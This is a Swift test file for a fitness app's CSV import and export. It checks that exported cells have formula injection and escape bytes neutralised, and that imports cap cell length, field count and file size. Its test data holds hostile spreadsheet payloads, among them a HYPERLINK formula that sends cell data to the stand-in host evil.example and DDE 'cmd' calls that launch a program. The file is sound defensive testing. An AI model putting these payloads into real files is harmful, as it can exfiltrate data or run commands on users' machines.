@testable import CoachDomain
@testable import CoachProgress
@testable import Coach
import Foundation
import Testing

/// Issue 18, items 3, 5, 7 and 10: what a CSV file carries out (no formula a spreadsheet runs,
/// no escape byte) and what it may bring in (bounded cells, short error quotes, plausible values).
struct HostileCSVTests {
    /// Read as the import tests read: `file.csv`, today `testDay(0)`.
    static func read(_ text: String) throws -> ImportPlan { try ImportReaderTests.read(text) }

    static let injected = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                           "-2+3+cmd|' /C calc'!A0", " =1+1", "\u{1B}[8mhidden\u{1B}[0m =x"]

    static func exported(_ names: [String]) -> [String: String] {
        let meals = names.map { name in
            MealEntry(day: testDay(-1), description: name, items: [FoodItem(name: name, quantity: 1, unit: "serving", grams: 100,
                                                                             macros: Macros(kcal: 100, protein: 5, carbs: 10, fat: 3))])
        }
        let sessions = names.map { name in
            WorkoutSession(day: testDay(-1), description: name, sets: [WorkoutSet(exercise: name, kind: .strength, sets: 1, reps: 5, weightKg: 50)])
        }
        return Dictionary(uniqueKeysWithValues: ExportWriter.files(weighIns: [], meals: meals, sessions: sessions, totals: [])
            .map { ($0.name, $0.text) })
    }

    /// The cells of `text` as a spreadsheet reads them: RFC 4180 without our reader's unescaping.
    static func rawCells(_ text: String) -> [String] {
        var cells: [String] = []
        var cell = ""
        var quoted = false
        var iterator = Array(text).makeIterator()
        while let character = iterator.next() {
            switch character {
            case "\"": quoted.toggle()   // a doubled quote toggles twice: the cell's first character is what counts
            case "," where !quoted, "\r\n" where !quoted, "\n" where !quoted:
                cells.append(cell)
                cell = ""
            default: cell.append(character)
            }
        }
        return cells
    }

    @Test("no exported cell starts a formula; each escaped one is quoted and starts with '")
    func formulaInjectionIsEscaped() throws {
        let files = Self.exported(Self.injected)
        for name in ["food.csv", "workouts.csv"] {
            let text = try #require(files[name])
            for cell in Self.rawCells(text) {
                let first = cell.first { $0 != " " }
                #expect(!(first.map { "=+-@\t\r".contains($0) } ?? false) || Double(cell) != nil,
                        "\(name): a cell a spreadsheet would run: \(cell)")
            }
            #expect(text.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#), "\(text)")
            #expect(text.contains(#"'+cmd|' /C calc'!A0"#) && text.contains(#"'@SUM(1+1)"#) && text.contains(#"'-2+3+cmd"#))
        }
    }

    @Test("no ESC byte (nor any control but the line breaks) is written")
    func noEscapeBytes() throws {
        for (name, text) in Self.exported(Self.injected) {
            #expect(!text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\r" && $0 != "\n" }, "\(name) holds a control character")
        }
    }

    @Test("an escaped export reads back as it was written (the escape taken off)")
    func escapedCellsReadBack() throws {
        let files = Self.exported(Self.injected)
        let food = try Self.read(try #require(files["food.csv"]))
        let expected = Self.injected.map { EntryText.clean($0) }
        #expect(food.batch.meals.map(\.description) == expected)
        #expect(food.batch.meals.flatMap(\.items).map(\.name) == expected)
        let workouts = try Self.read(try #require(files["workouts.csv"]))
        #expect(workouts.batch.sessions.flatMap { $0.sets.map(\.exercise) } == expected)
    }

    @Test("negative numbers stay numbers; a date or a plain name is not escaped")
    func plainCells() {
        #expect(ExportWriter.cell("-5") == "-5")
        #expect(ExportWriter.cell("-0.25") == "-0.25")
        #expect(ExportWriter.cell("2026-11-20") == "2026-11-20")
        #expect(ExportWriter.cell("oat milk") == "oat milk")
        #expect(ExportWriter.cell("-") == "\"'-\"")
        #expect(ExportWriter.cell("\t=1") == "\"' =1\"")
    }
}

/// Item 7: a huge cell costs one short error line and bounded memory.
struct BoundedCSVTests {
    @Test("a cell past 10,000 characters stops the file with a short line quoting its start")
    func longCell() {
        let text = "Date,Weight (kg)\n2026-01-01," + String(repeating: "9", count: 50_000) + "\n"
        do {
            _ = try CSVReader.rows(text)
            Issue.record("a 50,000-character cell was read")
        } catch {
            #expect(error.description.hasPrefix("line 2: a field longer than 10000 characters ('9999"), "\(error.description.prefix(200))")
            #expect(error.description.count < 120, "\(error.description.count) characters")
        }
    }

    @Test("a long header cell, quoted or not, is refused in a short line")
    func longHeader() {
        for cell in [String(repeating: "h", count: 20_000), "\"" + String(repeating: "h", count: 20_000) + "\""] {
            do {
                _ = try ImportReader(defaultUnit: .kg, today: testDay(0), exercises: ExerciseCatalog(records: []), lexicon: Fixtures.language.lexicon)
                    .read(cell + ",Weight\n2026-01-01,80\n", file: "big.csv")
                Issue.record("read")
            } catch {
                #expect(error.description.count < 200, "\(error.description.count) characters")
            }
        }
    }

    @Test("an unrecognised header quotes each of its cells clipped")
    func unrecognisedHeader() {
        let header = (0..<3).map { _ in String(repeating: "x", count: 5_000) }.joined(separator: ",")
        do {
            _ = try ImportReader(defaultUnit: .kg, today: testDay(0), exercises: ExerciseCatalog(records: []), lexicon: Fixtures.language.lexicon).read(header + "\n1,2,3\n", file: "f.csv")
            Issue.record("read")
        } catch {
            #expect(error.description.count < 400, "\(error.description.count) characters")
        }
    }

    @Test("a file over 32 MB is refused before it is read")
    func tooLarge() throws {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("airfit-large-\(UUID().uuidString).csv")
        #expect(FileManager.default.createFile(atPath: url.path, contents: Data("Date,Weight\n".utf8)))
        defer { try? FileManager.default.removeItem(at: url) }
        let handle = try FileHandle(forWritingTo: url)
        try handle.truncate(atOffset: UInt64(CSVReader.maxFileBytes) + 1)   // sparse: costs no disk
        try handle.close()
        do {
            _ = try CSVReader.contents(of: url)
            Issue.record("a file over the bound was read")
        } catch {
            #expect(error == .tooLarge(bytes: CSVReader.maxFileBytes + 1))
            #expect(error.description == "it is larger than 32 MB, the most airfit reads (split it, or export a shorter span)")
        }
    }

    @Test("more fields than the bound stop the file; blank rows count too")
    func tooManyFields() throws {
        #expect(try CSVReader.rows((0..<10).map(String.init).joined(separator: ",") + "\n", maxFields: 10).count == 1)
        for text in [String(repeating: ",", count: 10) + "\n", String(repeating: "\n", count: 11)] {
            #expect(throws: CSVError(line: text.hasPrefix(",") ? 1 : 11, reason: "more than 10 fields")) {
                _ = try CSVReader.rows(text, maxFields: 10)
            }
        }
        #expect(CSVReader.maxFields == 2_000_000)
    }

    /// Found by the second attack: 5 million blank lines held 369 MB before the file was refused.
    @Test("blank records are not kept")
    func blankRecordsAreNotKept() throws {
        let rows = try CSVReader.rows("Date,Weight\n\n\n , \n2026-11-01,80\n\n")
        #expect(rows.map(\.line) == [1, 5])
    }
}
